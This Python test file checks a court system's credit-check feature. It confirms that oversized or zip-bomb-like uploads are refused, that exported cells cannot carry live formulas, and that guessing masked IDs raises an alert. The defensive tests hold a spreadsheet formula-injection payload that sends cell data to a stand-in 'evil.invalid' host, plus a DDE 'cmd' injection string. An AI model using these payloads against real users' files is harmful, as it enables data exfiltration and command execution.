"""Issue 29, items 2, 3 and 6: the dishonest-list check cannot be used to tie up the server, to plant a
live formula, or to un-mask a published debtor by guessing.

* the bulk check reads an upload no further than a list goes: its size before it is read, an Excel
  file's parts counted as they unpack and openpyxl in read-only mode with the row cap applied as rows
  come, a CSV row by row with a cap on a cell's length; a refused file is a 400 and checks nothing;
* its result files (XLSX and CSV) go through ``linkage.text.safe_cell``: no cell comes back a formula;
* a single check states the case or notice of the unit it is for, a unit has a daily budget of them, and
  an account that checks many IDs of one masked form in a day raises an alert in the office's to-do.

No timing is asserted (docs/testing.md): the speed of a refusal is shown by what was not done (openpyxl
never opened, the bytes unpacked, openpyxl opened read-only and the rows read).
"""
# ruff: noqa: F811  (fixtures imported from test_credit are named as test arguments)
import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from credit import services as credit
from credit.models import CreditCheck, CreditCheckAlert, CreditEntry
from members.models import User
from portal.todo import todo_for

from .conftest import make_resident_id
from .test_credit import debtor_of, entry, publish  # noqa: F401  (fixtures; the tests name them)

pytestmark = pytest.mark.django_db
API = "/api/v1/credit-check/"
EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'


@pytest.fixture(autouse=True)
def _generous_minute(settings):
    """The per-minute check rate is not what these tests are about."""
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {
        **settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "credit_check": "1000/min"}}


@pytest.fixture
def own_notice(make_case, issue):
    """A notice addressed to the bank (ICBC): the work its liaison's single checks may be for."""
    return issue(make_case(), "bank-icbc", "query", subject="查询被执行人存款")


@pytest.fixture
def police_notice(make_case, issue):
    """Another unit's notice, in a case the bank has no notice in."""
    return issue(make_case(), "police", "query", subject="查询车辆")


def _check(client, id_number, purpose, reason="贷款审查", **extra):
    return client.get(API, {"id_number": id_number, "purpose": purpose, "reason": reason, **extra})


# ---------------------------------------------------------------- files made for the tests

_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                  '2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                  'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
                  'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                  'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                  '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
         '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
         '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
             'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                  'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                  'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def raw_xlsx(sheet_data: str) -> bytes:
    """A minimal .xlsx whose one worksheet's ``<sheetData>`` is ``sheet_data``, without a ``<dimension>``
    (so that openpyxl would scan the whole sheet before its first row), deflated as hard as it goes."""
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><sheetData>{sheet_data}</sheetData></worksheet>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return out.getvalue()


def xlsx_upload(data: bytes, name="list.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/vnd.openxmlformats-officedocument."
                                                      "spreadsheetml.sheet")


def book_upload(rows, name="list.xlsx", extra_sheets=()) -> SimpleUploadedFile:
    book = Workbook()
    sheet = book.active
    sheet.title = "名单"
    for row in rows:
        sheet.append(row)
    for title, sheet_rows in extra_sheets:
        other = book.create_sheet(title)
        for row in sheet_rows:
            other.append(row)
    data = io.BytesIO()
    book.save(data)
    return xlsx_upload(data.getvalue(), name)


def csv_upload(text: str, name="list.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def _bulk(page, upload, reason="贷款审查"):
    return page.post("/credit/check/", {"file": upload, "reason": reason})


class _Spy:
    """Wraps ``openpyxl.load_workbook``: the keyword arguments of each call."""

    def __init__(self, monkeypatch):
        self.calls = []
        real = openpyxl.load_workbook

        def spy(*args, **kwargs):
            self.calls.append(kwargs)
            return real(*args, **kwargs)

        monkeypatch.setattr(openpyxl, "load_workbook", spy)


@pytest.fixture
def openpyxl_spy(monkeypatch):
    return _Spy(monkeypatch)


@pytest.fixture
def unpacked(monkeypatch):
    """The bytes the zip module unpacks, as a one-element list."""
    total = [0]
    real = zipfile.ZipExtFile.read

    def read(self, n=-1):
        data = real(self, n)
        total[0] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", read)
    return total


def _errors(response) -> str:
    return response.content.decode()


# ---------------------------------------------------------------- 2. uploads bounded by work

def test_the_probes_workbook_of_300000_rows_is_refused_before_openpyxl_reads_it(browser_client, openpyxl_spy,
                                                                               unpacked):
    """The probe's file: 0.26 MB of 300,000 × 10 cells, 48 MB of XML once unpacked (and no <dimension>,
    so that openpyxl would scan all of it before the first row). Refused on what its parts declare:
    nothing is unpacked, openpyxl never opens it."""
    row = "<row>" + "<c><v>1</v></c>" * 10 + "</row>"
    data = raw_xlsx(row * 300_000)
    assert len(data) < 300_000
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
    assert f"{credit.BULK_MAX_ROWS}" in _errors(response)
    assert openpyxl_spy.calls == [] and unpacked[0] == 0
    assert not CreditCheck.objects.exists()


def test_rows_past_the_cap_are_refused_as_the_sheet_unpacks(browser_client, openpyxl_spy, unpacked):
    """5,000 rows, 0.8 MB unpacked, within every size cap: the rows are counted as the bytes stream and
    the file is refused at the 202nd, a single chunk in; openpyxl never opens it."""
    row = "<row>" + "<c><v>1</v></c>" * 10 + "</row>"
    data = raw_xlsx(row * 5_000)
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    assert response.status_code == 400 and f"{credit.BULK_MAX_ROWS}" in _errors(response)
    assert openpyxl_spy.calls == []
    assert 0 < unpacked[0] < len(row) * 5_000 // 5
    assert not CreditCheck.objects.exists()


def test_rows_made_by_a_far_row_number_are_refused_as_openpyxl_reads_them(browser_client, openpyxl_spy):
    """Two row elements, the second numbered 500,000: openpyxl (read-only) would yield the empty rows
    between them; the cap stops it at the 202nd."""
    data = raw_xlsx(f'<row r="1"><c t="inlineStr"><is><t>{make_resident_id(1)}</t></is></c></row>'
                    f'<row r="500000"><c t="inlineStr"><is><t>{make_resident_id(2)}</t></is></c></row>')
    yielded = []
    real_get_row = openpyxl.worksheet._read_only.ReadOnlyWorksheet._cells_by_row

    def counting(self, *args, **kwargs):
        for row in real_get_row(self, *args, **kwargs):
            yielded.append(1)
            yield row

    openpyxl.worksheet._read_only.ReadOnlyWorksheet._cells_by_row = counting
    try:
        response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    finally:
        openpyxl.worksheet._read_only.ReadOnlyWorksheet._cells_by_row = real_get_row
    assert response.status_code == 400
    assert [call.get("read_only") for call in openpyxl_spy.calls] == [True]
    assert len(yielded) == credit.BULK_MAX_ROWS + 2  # read up to the first row past the cap, no further
    assert not CreditCheck.objects.exists()


def test_a_workbook_with_too_many_cells_is_refused_before_openpyxl(browser_client, openpyxl_spy):
    """150 rows of 500 cells: within the row cap, beyond any list's cells."""
    data = raw_xlsx(("<row>" + "<c><v>7</v></c>" * 500 + "</row>") * 150)
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    assert response.status_code == 400
    assert openpyxl_spy.calls == []
    assert not CreditCheck.objects.exists()


def test_a_value_past_the_column_cap_is_refused(browser_client):
    far = openpyxl.utils.get_column_letter(credit.BULK_MAX_COLUMNS + 5)
    data = raw_xlsx(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{make_resident_id(1)}</t></is></c>'
                    f'<c r="{far}1" t="inlineStr"><is><t>备注</t></is></c></row>')
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    assert response.status_code == 400 and str(credit.BULK_MAX_COLUMNS) in _errors(response)
    assert not CreditCheck.objects.exists()


def test_a_file_over_the_size_cap_is_refused_before_it_is_read(browser_client, openpyxl_spy):
    data = b"PK" + b"\0" * credit.BULK_MAX_BYTES
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    assert response.status_code == 400 and openpyxl_spy.calls == []
    assert not CreditCheck.objects.exists()


@pytest.mark.parametrize("data", [b"PK\x03\x04 not a zip at all", b"PK" + b"x" * 100])
def test_a_broken_workbook_is_a_400_not_a_500(browser_client, data):
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data))
    assert response.status_code == 400
    assert not CreditCheck.objects.exists()


@pytest.mark.parametrize("length", [200_000, credit.BULK_MAX_CELL_CHARS + 1])
def test_a_huge_csv_field_is_a_clear_400_and_nothing_is_checked(browser_client, length):
    """200,000 characters in one field was a 500 (the csv module's own limit is 131,072)."""
    text = f"证件号码,备注\r\n{make_resident_id(1)},{'长' * length}\r\n{make_resident_id(2)},\r\n"
    response = _bulk(browser_client("liaison-bank-icbc"), csv_upload(text))
    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
    assert str(credit.BULK_MAX_CELL_CHARS) in _errors(response)
    assert not CreditCheck.objects.exists()


def test_an_unclosed_quote_or_too_many_csv_rows_is_a_400(browser_client):
    page = browser_client("liaison-bank-icbc")
    rows = "证件号码\r\n" + "".join(f"{make_resident_id(n)}\r\n" for n in range(100_000))
    assert _bulk(page, csv_upload(rows)).status_code == 400
    wide = "证件号码" + ",x" * (credit.BULK_MAX_COLUMNS + 1) + f"\r\n{make_resident_id(1)}\r\n"
    assert _bulk(page, csv_upload(wide)).status_code == 400
    assert not CreditCheck.objects.exists()


def test_a_list_within_the_bounds_is_checked_and_keeps_its_sheets(browser_client, entry, publish):
    """Read in read-only mode and written afresh: every sheet, every value, and the result columns."""
    publish(entry)
    entry.refresh_from_db()
    rows = [["名称", "证件号码", "金额"], ["张三", entry.id_number, 1200.5], ["王五", make_resident_id(8891), 3]]
    response = _bulk(browser_client("liaison-bank-icbc"),
                     book_upload(rows, extra_sheets=[("说明", [["第二个工作表"]])]))
    assert response.status_code == 200, _errors(response)
    out = load_workbook(io.BytesIO(response.content))
    assert out.sheetnames == ["名单", "说明"]
    got = [list(r) for r in out["名单"].iter_rows(values_only=True)]
    assert [r[:3] for r in got] == rows
    assert got[1][4:] == [entry.name, entry.case.number, entry.court, entry.masked_id]
    assert got[0][3] and got[1][3] != got[2][3]
    assert [list(r) for r in out["说明"].iter_rows(values_only=True)] == [["第二个工作表"]]
    assert CreditCheck.objects.filter(channel="bulk").count() == 2


@pytest.mark.usefixtures("rate_window")
def test_browser_uploads_are_throttled_even_when_refused(browser_client, settings):
    settings.CREDIT_BULK_UPLOAD_RATE = "2/min"
    page = browser_client("liaison-bank-icbc")
    broken = [_bulk(page, xlsx_upload(b"PK broken")).status_code for _ in range(3)]
    assert broken == [400, 400, 429]
    assert _bulk(page, csv_upload(f"证件号码\r\n{make_resident_id(1)}\r\n")).status_code == 429
    assert not CreditCheck.objects.exists()
    # another user has their own allowance
    ok = _bulk(browser_client("liaison-finance"), csv_upload(f"证件号码\r\n{make_resident_id(1)}\r\n"))
    assert ok.status_code == 200


@pytest.mark.usefixtures("rate_window")
def test_no_file_is_read_when_the_minute_has_no_check_left(browser_client, settings, openpyxl_spy):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {
        **settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "credit_check": "2/min"}}
    page = browser_client("liaison-bank-icbc")
    assert _bulk(page, csv_upload(f"证件号码\r\n{make_resident_id(1)}\r\n{make_resident_id(2)}\r\n")).status_code == 200
    refused = _bulk(page, book_upload([["证件号码"], [make_resident_id(3)]]))
    assert refused.status_code == 429 and openpyxl_spy.calls == []
    assert CreditCheck.objects.count() == 2


# ---------------------------------------------------------------- 3. formula-safe result files

def _evil_entry(entry, publish):
    publish(entry)
    CreditEntry.objects.filter(pk=entry.pk).update(name=EVIL)
    entry.refresh_from_db()
    return entry


def test_the_xlsx_result_has_no_live_formula(browser_client, entry, publish):
    entry = _evil_entry(entry, publish)
    book = Workbook()
    sheet = book.active
    sheet.append(["名称", "证件号码", "备注"])
    sheet.append(["张三", entry.id_number, "@SUM(1+1)"])
    sheet.cell(row=2, column=3).data_type = "s"  # text, as a user's cell of text starting with @ is
    data = io.BytesIO()
    book.save(data)
    response = _bulk(browser_client("liaison-bank-icbc"), xlsx_upload(data.getvalue()))
    assert response.status_code == 200, _errors(response)
    out = load_workbook(io.BytesIO(response.content))  # not data_only: a formula would read as one
    cells = [c for row in out.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + EVIL in values and EVIL not in values
    assert "'@SUM(1+1)" in values
    # and in the XML itself: no <f> element anywhere
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<(\w+:)?f[\s>]", sheet_xml)


def test_the_csv_result_has_no_live_formula(browser_client, entry, publish):
    entry = _evil_entry(entry, publish)
    text = f"名称,证件号码\r\n=cmd|' /C calc'!A0,{entry.id_number}\r\n+1+2,{make_resident_id(8892)}\r\n"
    response = _bulk(browser_client("liaison-bank-icbc"), csv_upload(text))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert "'=cmd|' /C calc'!A0" in cells and "'+1+2" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert rows[1][1] == entry.id_number  # the identifiers themselves come back as they were


# ---------------------------------------------------------------- 6. single checks: a purpose

def test_a_single_check_without_a_purpose_is_refused_in_the_api(api):
    response = _check(api("liaison-bank-icbc"), make_resident_id(1), purpose="")
    assert response.status_code == 400 and "purpose" in response.json()
    response = api("liaison-bank-icbc").get(API, {"id_number": make_resident_id(1), "reason": "贷款"})
    assert response.status_code == 400 and "purpose" in response.json()
    assert not CreditCheck.objects.exists()


def test_a_single_check_without_a_purpose_is_refused_on_the_page(browser_client):
    page = browser_client("liaison-bank-icbc")
    response = page.post("/credit/check/", {"id_number": make_resident_id(1), "reason": "贷款审查"})
    assert response.status_code == 200
    assert response.context["form"].errors.get("purpose")
    assert 'check-result' not in response.content.decode()
    assert not CreditCheck.objects.exists()


def test_a_check_for_the_units_notice_or_its_case_is_answered_and_recorded(api, browser_client, entry, publish,
                                                                         own_notice):
    publish(entry)
    client = api("liaison-bank-icbc")
    response = _check(client, entry.id_number, purpose=own_notice.number)
    assert response.status_code == 200 and response.json()["listed"] is True
    by_case = _check(client, make_resident_id(8893), purpose=own_notice.case.number.replace("（", "(").replace("）", ")"))
    assert by_case.status_code == 200 and by_case.json()["listed"] is False
    page = browser_client("liaison-bank-icbc").post("/credit/check/", {
        "id_number": entry.id_number, "reason": "贷款审查", "purpose": own_notice.number})
    assert page.status_code == 200 and "check-result listed" in page.content.decode()
    rows = list(CreditCheck.objects.order_by("id").values_list("channel", "purpose_notice", "purpose_case"))
    assert rows == [("api", own_notice.pk, own_notice.case_id), ("api", None, own_notice.case_id),
                    ("browser", own_notice.pk, own_notice.case_id)]


def test_another_units_case_or_notice_is_refused_as_an_unknown_number_is(api, browser_client, police_notice,
                                                                         own_notice):
    client = api("liaison-bank-icbc")
    answers = [_check(client, make_resident_id(1), purpose=p) for p in
               (police_notice.number, police_notice.case.number, "（2026）鄂1022执999999号", "随便写的")]
    assert [a.status_code for a in answers] == [400] * 4
    bodies = [a.json() for a in answers]
    assert all(set(b) == {"purpose"} for b in bodies)
    assert len({tuple(b["purpose"]) for b in bodies}) == 1  # one message: nothing learnt of the other unit
    for answer in answers:
        text = answer.content.decode()
        assert police_notice.case.number not in text and police_notice.case.title not in text
    page = browser_client("liaison-bank-icbc").post("/credit/check/", {
        "id_number": make_resident_id(1), "reason": "贷款审查", "purpose": police_notice.number})
    assert page.status_code == 200 and page.context["form"].errors.get("purpose")
    assert police_notice.case.title not in page.content.decode()
    assert not CreditCheck.objects.exists()
    # the police's own liaison may state it
    assert _check(api("liaison-police"), make_resident_id(1), purpose=police_notice.number).status_code == 200


def test_the_court_states_any_of_its_cases(api, police_notice):
    assert _check(api("clerk"), make_resident_id(1), purpose=police_notice.case.number).status_code == 200


# ---------------------------------------------------------------- 6. single checks: a unit's daily budget

@pytest.mark.dates
def test_a_unit_has_a_daily_budget_of_single_checks(api, browser_client, settings, own_notice):
    settings.CREDIT_SINGLE_CHECKS_PER_UNIT_DAY = 3
    client = api("liaison-bank-icbc")
    codes = [_check(client, make_resident_id(n), purpose=own_notice.number).status_code for n in range(3)]
    refused = _check(client, make_resident_id(9), purpose=own_notice.number)
    assert codes == [200, 200, 200] and refused.status_code == 429
    assert "3" in refused.json()["detail"]
    page = browser_client("liaison-bank-icbc").post("/credit/check/", {
        "id_number": make_resident_id(9), "reason": "贷款审查", "purpose": own_notice.number})
    assert page.status_code == 429 and page.context["form"].errors
    assert CreditCheck.objects.filter(unit__code="bank-icbc").count() == 3
    # a list is not a single check (it has its own daily rows), and another unit has its own budget
    ok = _bulk(browser_client("liaison-bank-icbc"), csv_upload(f"证件号码\r\n{make_resident_id(10)}\r\n"))
    assert ok.status_code == 200
    assert _check(api("clerk"), make_resident_id(9), purpose=own_notice.case.number).status_code == 200


# ---------------------------------------------------------------- 6. single checks: the guessing alert

def _guesses(n, serial=232):
    """``n`` different resident IDs of one masked form (4210**********232X, as the public list would show
    one), as a guesser finds them: birth dates tried one by one, kept when the check character matches."""
    from datetime import date, timedelta

    found, day, want = [], date(1990, 1, 1), None
    while len(found) < n:
        candidate = make_resident_id(serial, birth=day.strftime("%Y%m%d"))
        want = want or candidate[-1]
        if candidate[-1] == want:
            found.append(candidate)
        day += timedelta(days=1)
    return found


def _office_alerts(client) -> int:
    page = client.get("/").content.decode()
    match = re.search(r'href="/credit/check-alerts/\?status=open"><span>[^<]+</span> <strong>(\d+)</strong>', page)
    return int(match.group(1)) if match else -1


def test_guessing_one_masked_form_raises_an_alert_for_the_office(api, browser_client, users, own_notice):
    limit = credit.guess_alert_distinct()
    guesses = _guesses(limit + 2)
    assert len({g[:4] + g[-4:] for g in guesses}) == 1 and len(set(guesses)) == limit + 2
    client = api("liaison-bank-icbc")
    for g in guesses[:limit]:
        assert _check(client, g, purpose=own_notice.number).status_code == 200
    _check(client, guesses[0], purpose=own_notice.number)  # the same ID again is not another guess
    for other in range(3):  # other masked forms do not add up
        _check(client, make_resident_id(600 + other), purpose=own_notice.number)
    assert not CreditCheckAlert.objects.exists()
    office = browser_client("office")
    assert _office_alerts(office) == 0
    assert _check(client, guesses[limit], purpose=own_notice.number).status_code == 200
    [alert] = CreditCheckAlert.objects.all()
    masked = guesses[0][:4] + "*" * 10 + guesses[0][-4:]
    assert (alert.user.username, alert.unit.code, alert.masked, alert.distinct_count, alert.reviewed_at) == (
        "liaison-bank-icbc", "bank-icbc", masked, limit + 1, None)
    # the office's to-do counts it, and links to the page that shows it with its checks
    [todo] = [t for t in todo_for(User.objects.get(username="office")) if t.key == "check_alerts"]
    assert todo.count == 1 and todo.url == "/credit/check-alerts/?status=open"
    assert _office_alerts(office) == 1
    page = office.get(todo.url)
    assert page.status_code == 200
    [(shown, checks)] = page.context["alerts"]
    assert shown.pk == alert.pk and len(checks) == limit + 2  # every check of that form, the repeat included
    text = page.content.decode()
    assert "liaison-bank-icbc" in text and masked in text and own_notice.number in text
    assert not any(g in text for g in guesses)  # the page shows the pattern, not the identifiers
    # one more guess: the same alert, counted again
    _check(client, guesses[limit + 1], purpose=own_notice.number)
    alert.refresh_from_db()
    assert alert.distinct_count == limit + 2 and CreditCheckAlert.objects.count() == 1


def test_the_office_reviews_an_alert_and_a_new_guess_opens_it_again(api, browser_client, own_notice):
    limit = credit.guess_alert_distinct()
    guesses = _guesses(limit + 2, serial=233)
    client = api("liaison-bank-icbc")
    for g in guesses[:limit + 1]:
        _check(client, g, purpose=own_notice.number)
    alert = CreditCheckAlert.objects.get()
    office = browser_client("office")
    response = office.post(f"/credit/check-alerts/{alert.pk}/review/", {"note": "已电话核实，系误操作"})
    assert response.status_code == 302
    alert.refresh_from_db()
    assert alert.reviewed_at and alert.reviewed_by.username == "office" and alert.review_note == "已电话核实，系误操作"
    assert _office_alerts(office) == 0
    assert office.get("/credit/check-alerts/?status=reviewed").context["alerts"][0][0].pk == alert.pk
    _check(client, guesses[limit + 1], purpose=own_notice.number)
    alert.refresh_from_db()
    assert alert.reviewed_at is None and _office_alerts(office) == 1


def test_a_bulk_file_of_guesses_raises_the_alert_too(browser_client):
    guesses = _guesses(credit.guess_alert_distinct() + 1, serial=234)
    response = _bulk(browser_client("liaison-bank-icbc"), csv_upload("证件号码\r\n" + "\r\n".join(guesses) + "\r\n"))
    assert response.status_code == 200
    assert CreditCheckAlert.objects.get().distinct_count == len(guesses)


@pytest.mark.parametrize("username", ["clerk", "convener", "president", "liaison-bank-icbc", "leader-police"])
def test_the_alerts_are_the_offices_alone(api, browser_client, own_notice, username):
    client = api("liaison-bank-icbc")
    for g in _guesses(credit.guess_alert_distinct() + 1, serial=235):
        _check(client, g, purpose=own_notice.number)
    alert = CreditCheckAlert.objects.get()
    user = User.objects.get(username=username)
    assert "check_alerts" not in {t.key for t in todo_for(user)}
    page = browser_client(username)
    assert page.get("/credit/check-alerts/").status_code == 403
    assert page.post(f"/credit/check-alerts/{alert.pk}/review/", {"note": "x"}).status_code == 403
    alert.refresh_from_db()
    assert alert.reviewed_at is None
    assert "/credit/check-alerts/" not in page.get("/").content.decode()
